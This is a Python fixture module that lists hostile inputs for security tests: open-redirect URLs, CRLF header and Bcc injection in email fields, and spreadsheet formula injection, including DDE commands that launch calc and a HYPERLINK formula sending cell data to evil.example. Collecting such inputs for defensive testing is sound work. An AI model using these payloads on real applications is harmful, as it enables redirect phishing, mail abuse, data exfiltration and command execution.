"""What attackers try, in one place: for redirects, headers of mail, and cells of spreadsheets."""

from typing import Final

ELSEWHERE: Final = (
    "https://evil.example",
    "http:evil.example",
    "//evil.example",
    "///evil.example",
    "////evil.example/%2e%2e",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/%5Cevil.example",
    "/%2F/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    " //evil.example",
    "/services\r\nSet-Cookie: a=b",
    "javascript:alert(1)",
    "jAvAsCrIpT:alert(1)",
    "data:text/html,hi",
    "/sign-in/../../evil.example",
    "/services@evil.example",
    ".evil.example",
    "https:@evil.example",
    "http://localhost@evil.example",
    "http://localhost.evil.example/",
    "\u2044\u2044evil.example",
    "services",
    "/sign-out",
    "/no-such-page",
    "",
)
"""Where nobody is to be led."""
ADDRESSES: Final = (
    "",
    "ruth",
    "@rooms.example",
    "a@rooms.example, b@rooms.example",
    "a@rooms.example,b@rooms.example",
    "ruth@rooms.example;other@rooms.example",
    "ruth@rooms.example other@rooms.example",
    "Ruth <ruth@rooms.example>",
    "<ruth@rooms.example>",
    "ruth@rooms.example\nBcc: all@rooms.example",
    "ruth@rooms.example\r\nBcc: all@rooms.example",
    "ruth@rooms.example\rBcc: all@rooms.example",
    "ruth@rooms.example%0aBcc:all@rooms.example",
    "ruth@rooms.example\x00",
    "ruth@rooms.example\u2028Bcc: all@rooms.example",
    "group:a@rooms.example,b@rooms.example;",
    "=?utf-8?q?ruth=0aBcc:all?=@rooms.example",
    "(comment)ruth@rooms.example",
    '"a@b.example,c"@rooms.example',
)
"""What is not exactly one address."""
SUBJECTS: Final = (
    "Hello\nBcc: all@rooms.example",
    "Hello\r\nBcc: all@rooms.example",
    "Hello\rBcc: all@rooms.example",
    "Hello\r\n\r\nbody",
)
"""Subjects that would bring a header or a body of their own."""
FORMULAS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "=IMPORTXML(CONCAT(A1:A9),0)",
    "=DDE(1;2;3)",
    "=WEBSERVICE(A1)",
)
"""What a spreadsheet would work out."""
